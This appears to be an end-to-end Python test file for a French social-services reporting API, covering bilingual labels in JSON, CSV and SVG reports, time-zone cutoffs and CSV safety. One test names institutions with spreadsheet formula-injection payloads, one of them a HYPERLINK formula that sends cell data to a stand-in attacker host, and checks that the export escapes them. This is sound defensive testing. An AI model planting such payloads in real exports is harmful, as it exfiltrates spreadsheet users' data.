"""Reports and the network map for people, over HTTP on the store under test: French labels by
default and English on request (JSON, CSV, charts), CSV that a French office's spreadsheet opens
and that runs no formula, and months and days cut in the service's time zone."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import UTC, date, datetime
from typing import Any
from uuid import uuid4
from xml.etree import ElementTree

import httpx
import pytest

from api.cli.demo import DemoStory, load_demo
from api.http.app import create_app
from api.http.deps import services_of
from api.settings import Settings
from api.store.calendar_record import TimeZoneChangedError
from domain.access import Role
from domain.timing import TimePolicy
from tests.e2e.conftest import Api, AppClock
from tests.world import NOW, World, position

QUARTER = {"from": "2026-10", "to": "2026-12"}  # the demo's
LATER = datetime(2027, 2, 15, 12, tzinfo=UTC)  # when it is published
SVG = "{http://www.w3.org/2000/svg}"
BOM = b"\xef\xbb\xbf"
ENGLISH = {"Accept-Language": "en-GB,en;q=0.9"}
FRENCH_HEADERS = [
    "Périmètre",
    "Période",
    "Rubrique",
    "Indicateur",
    "Code",
    "Valeur",
    "Part",
    "Secret statistique",
]
ENGLISH_HEADERS = ["Scope", "Period", "Section", "Figure", "Code", "Value", "Share", "Withheld"]


@asynccontextmanager
async def serving(settings: Settings, **update: Any) -> AsyncIterator[Api]:
    """The API over `settings`' store, with `update` (a time zone, a threshold)."""
    changed = settings.model_copy(
        update={"embedded_projections": True, "projection_poll_seconds": 0.01, **update}
    )
    clock = AppClock()
    app = create_app(changed, time=TimePolicy(clock=clock))
    async with app.router.lifespan_context(app):
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://maillage") as client:
            yield Api(client, services_of(app).maillage, changed, app, clock)


def _demo(api: Api) -> DemoStory:
    story = load_demo(api.maillage, now=NOW)
    assert api.services.projections.wait_for(position(api.maillage), timeout=10)
    api.travel(LATER)
    return story


def _line(report: dict[str, Any], name: str) -> dict[str, dict[str, Any]]:
    line = next(x for x in report["lines"] if x["name"] == name)
    return {c["code"]: c for c in line["cells"]}


def _texts(svg: bytes) -> set[str]:
    root = ElementTree.fromstring(svg)
    return {"".join(t.itertext()) for t in root.iter(f"{SVG}text")}


def _rows(body: bytes, separator: str) -> list[list[str]]:
    assert body.startswith(BOM)
    text = body[len(BOM) :].decode("utf-8")
    assert text.endswith("\r\n")
    return list(csv.reader(io.StringIO(text), delimiter=separator))


async def test_a_report_speaks_french_by_default_and_english_on_request(
    store_settings: Settings,
) -> None:
    async with serving(store_settings, report_min_cell=1) as api:
        story = _demo(api)
        protocol = f"/reports/partnerships/{story.partnerships['protocol']}"
        headers = api.headers(Role.FUNDER, institution=story.funders["departement"])

        french = await api.client.get(protocol, params=QUARTER, headers=headers)
        assert french.status_code == 200, french.text
        assert french.headers["content-language"] == "fr"
        report = french.json()
        assert (report["language"], report["scope_kind"], report["scope_kind_label"]) == (
            "fr",
            "partnership",
            "partenariat",
        )
        assert (report["period"], report["period_label"]) == ("2026-10 – 2026-12", "T4 2026")
        assert _line(report, "interventions_by_kind")["home_visit"]["label"] == "visite à domicile"
        basis = _line(report, "actions_by_basis")["case_holder"]
        assert basis["label"] == "institution détentrice du dossier"
        by_institution = _line(report, "interventions_by_institution")
        aemo = by_institution[str(story.institutions["aemo"])]
        assert (aemo["label"], aemo["value"]) == ("Service AEMO de Colmar", 10)  # named, by id
        titles = {line["name"]: line["title"] for line in report["lines"]}
        assert titles["beneficiaries"] == "Usagers suivis"
        assert report["withheld_label"] == "masqué"

        english = (await api.client.get(protocol, params=QUARTER, headers=headers | ENGLISH)).json()
        assert (english["scope_kind_label"], english["period_label"]) == ("partnership", "Q4 2026")
        assert _line(english, "interventions_by_kind")["home_visit"]["label"] == "home visit"
        assert _line(english, "actions_by_basis")["case_holder"]["label"] == "case holder"
        assert english["lines"][0]["title"] == "Beneficiaries followed"
        # the codes are the same in both languages
        assert [c["code"] for c in english["lines"][3]["cells"]] == list(by_institution)

        # CSV: French by default — BOM, `;`, French headers, decimal comma; English on request
        share = round(
            24 / 37, 4
        )  # the case holder's acts among the parties' (hand count: test_reports)
        csv_cases = [
            ({}, ";", FRENCH_HEADERS, "Actes par cadre d'intervention", "institution détentrice"),
            (ENGLISH, ",", ENGLISH_HEADERS, "Actions by basis", "case holder"),
        ]
        for language, separator, header, section, label in csv_cases:
            download = await api.client.get(
                f"{protocol}/csv", params=QUARTER, headers=headers | language
            )
            assert download.status_code == 200
            assert download.content.startswith(BOM + separator.join(header[:3]).encode())
            rows = _rows(download.content, separator)
            assert rows[0] == header
            assert rows[1][1] == ("T4 2026" if separator == ";" else "Q4 2026")
            by_code = {(row[2], row[4]): row for row in rows[1:]}
            figure, code, value, written = by_code[(section, "case_holder")][3:7]
            assert figure.startswith(label)
            assert (code, value) == ("case_holder", "24")
            decimal_mark = "," if separator == ";" else "."
            assert written == str(share).replace(".", decimal_mark)
            median = next(row for row in rows if row[4] == "median")
            assert median[5] == f"18{decimal_mark}0"
        # the dialect is the format only: English words in the French dialect, and back
        mixed = await api.client.get(
            f"{protocol}/csv", params={**QUARTER, "dialect": "fr"}, headers=headers | ENGLISH
        )
        assert _rows(mixed.content, ";")[0][0] == "Scope"
        mixed = await api.client.get(
            f"{protocol}/csv", params={**QUARTER, "dialect": "en"}, headers=headers
        )
        assert _rows(mixed.content, ",")[0][0] == "Périmètre"
        wrong = await api.client.get(
            f"{protocol}/csv", params={**QUARTER, "dialect": "de"}, headers=headers
        )
        assert wrong.status_code == 422
        assert wrong.headers["content-type"].startswith("application/problem+json")
        assert "dialect" in wrong.text

        # the chart: SVG text in either language
        chart = await api.client.get(f"{protocol}/chart", params=QUARTER, headers=headers)
        shown = _texts(chart.content)
        assert any(t.startswith("Protocole départemental") and "— T4 2026" in t for t in shown)
        assert {"nombre d'usagers", "visite à domicile", "Usagers suivis — total\u00a0: 2"} <= shown
        chart = await api.client.get(f"{protocol}/chart", params=QUARTER, headers=headers | ENGLISH)
        shown = _texts(chart.content)
        assert any("(partnership) — Q4 2026" in t for t in shown)
        assert {"number of beneficiaries", "home visit", "Beneficiaries followed — total: 2"} <= (
            shown
        )


async def test_the_network_map_names_institutions_sectors_and_ties_in_the_readers_language(
    store_settings: Settings,
) -> None:
    async with serving(store_settings) as api:
        story = _demo(api)
        headers = api.headers(
            Role.SUPERVISOR, story.professionals["claire"], story.institutions["aemo"]
        )
        found = (await api.client.get("/network-map", params=QUARTER, headers=headers)).json()
        assert found["period_label"] == "T4 2026"
        names = {n["institution_id"]: n["name"] for n in found["nodes"]}
        sectors = {n["sector"]: n["sector_label"] for n in found["nodes"]}
        assert sectors["health"] == "santé"
        assert sectors["education"] == "éducation"
        for edge in found["edges"]:
            assert (edge["source_name"], edge["target_name"]) == (
                names[edge["source"]],
                names[edge["target"]],
            )
        ties = {e["tie"]: e["tie_label"] for e in found["edges"]}
        assert ties["charter"] == "charte"
        assert ties["none"] == "usagers partagés, sans partenariat"

        english = await api.client.get("/network-map", params=QUARTER, headers=headers | ENGLISH)
        ties = {e["tie"]: e["tie_label"] for e in english.json()["edges"]}
        assert ties["charter"] == "charter"
        assert english.json()["period_label"] == "Q4 2026"
        picture = await api.client.get(
            "/network-map/picture", params=QUARTER, headers=headers | ENGLISH
        )
        shown = _texts(picture.content)
        assert set(names.values()) <= shown
        assert {"health", "charter", "shared beneficiaries, no partnership"} <= shown
        assert any(t.startswith("Who works with whom — Q4 2026") for t in shown)


HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
    "+33 3 89 00 00 00",
    "-x",
    "@SUM(1+1)",
)  # (a name's leading tab or carriage return is trimmed by the registry: see test_csv_download)


async def test_a_csv_never_hands_a_formula_to_a_spreadsheet(store_settings: Settings) -> None:
    """Institutions (and a partnership) named like formulas: every such text starts with an
    apostrophe in the CSV, in both dialects; the numbers stay numbers."""
    async with serving(store_settings, report_min_cell=1) as api:
        app = api.maillage
        parties = [
            app.register_institution(name=name, sector="social", kind="association").id
            for name in HOSTILE
        ]
        charter = app.propose_partnership(
            kind="charter",
            title="=1+1",
            origin="spontaneous",
            parties=parties,
            valid_from=date(2026, 1, 1),
        ).id
        assert api.services.projections.wait_for(position(app), timeout=10)
        headers = api.headers(Role.SUPERVISOR, uuid4(), parties[0])
        path = f"/reports/partnerships/{charter}/csv"
        for dialect, separator in (("fr", ";"), ("en", ",")):
            response = await api.client.get(
                path,
                params={"from": "2026-07", "to": "2026-09", "dialect": dialect},
                headers=headers,
            )
            assert response.status_code == 200, response.text
            rows = _rows(response.content, separator)
            labels = {row[3] for row in rows if row[2] in ("Interventions par établissement",)}
            assert {f"'{name}" for name in HOSTILE} <= labels
            assert {row[0] for row in rows[1:]} == {"'=1+1"}
            for row in rows:
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
            zeros = [row[5] for row in rows if row[2] == "Interventions par établissement"]
            assert set(zeros) == {"0"}  # numbers as numbers


async def _month_report(api: Api, world: World, month: str) -> dict[str, Any]:
    headers = api.headers(Role.SUPERVISOR, uuid4(), world.i("aemo"))
    response = await api.client.get(
        f"/reports/institutions/{world.i('aemo')}",
        params={"from": month, "to": month},
        headers=headers,
    )
    assert response.status_code == 200, response.text
    return dict(response.json())


@pytest.mark.parametrize(
    ("zone", "home_visits", "days"),
    [("Europe/Paris", (0, 1), 1), ("UTC", (1, 0), 0)],
)
async def test_months_and_days_are_those_of_the_services_time_zone(
    store_settings: Settings, zone: str, home_visits: tuple[int, int], days: int
) -> None:
    """A home visit at 23:30 UTC on 31 October is on 1 November in Paris: November's in Paris,
    October's in UTC. A case opened at 23:30 and met at 00:30 the next day (Paris): one day to
    its first meeting in Paris, none in UTC (22:30 and 23:30 the same day)."""
    async with serving(store_settings, report_min_cell=1, time_zone=zone) as api:
        app, world = api.maillage, World.build(api.maillage)
        jeanne = world.actor("jeanne")
        first = world.open_case(occurred_at=datetime(2026, 10, 25, 10, tzinfo=UTC))
        app.record_intervention(
            case_id=first,
            by=jeanne,
            kind="home_visit",
            occurred_at=datetime(2026, 10, 31, 23, 30, tzinfo=UTC),
        )
        second = world.open_case(occurred_at=datetime(2026, 11, 2, 22, 30, tzinfo=UTC))
        app.hold_coordination_meeting(
            case_id=second,
            by=jeanne,
            attendees=[jeanne],
            decisions=["Un point mensuel"],
            occurred_at=datetime(2026, 11, 2, 23, 30, tzinfo=UTC),
        )
        assert api.services.projections.wait_for(position(app), timeout=10)
        api.travel(datetime(2027, 1, 15, 12, tzinfo=UTC))
        october = await _month_report(api, world, "2026-10")
        november = await _month_report(api, world, "2026-11")
        visits = tuple(
            _line(r, "interventions_by_kind")["home_visit"]["value"] for r in (october, november)
        )
        assert visits == home_visits
        assert november["median_days_to_first_meeting"] == days


@pytest.mark.parametrize(("zone", "status"), [("Europe/Paris", 200), ("UTC", 422)])
async def test_a_period_is_published_from_a_day_of_the_services_calendar(
    store_settings: Settings, zone: str, status: int
) -> None:
    """November's acts can be dated until 30 days after it ends: its report opens on
    31 December — at 23:30 UTC on the 30th, it is the 31st in Paris, not yet in UTC."""
    async with serving(store_settings, time_zone=zone) as api:
        world = World.build(api.maillage)
        api.travel(datetime(2026, 12, 30, 23, 30, tzinfo=UTC))
        response = await api.client.get(
            f"/reports/institutions/{world.i('aemo')}",
            params={"from": "2026-11", "to": "2026-11"},
            headers=api.headers(Role.SUPERVISOR, uuid4(), world.i("aemo")),
        )
        assert response.status_code == status, response.text
        if status == 422:
            assert response.json()["rule"] == "report-period-not-published"
            assert response.json()["details"]["published_from"] == "2026-12-31"


async def test_a_store_keeps_the_time_zone_it_was_first_served_in(
    store_settings: Settings,
) -> None:
    """Another zone would cut published months anew: the service refuses to start."""
    async with serving(store_settings) as api:
        assert (await api.client.get("/health")).status_code == 200
    with pytest.raises(TimeZoneChangedError, match="Europe/Paris"):
        async with serving(store_settings, time_zone="America/Cayenne"):
            pass  # pragma: no cover - refused at start-up
    async with serving(store_settings) as api:  # the same zone: served again
        assert (await api.client.get("/health")).status_code == 200
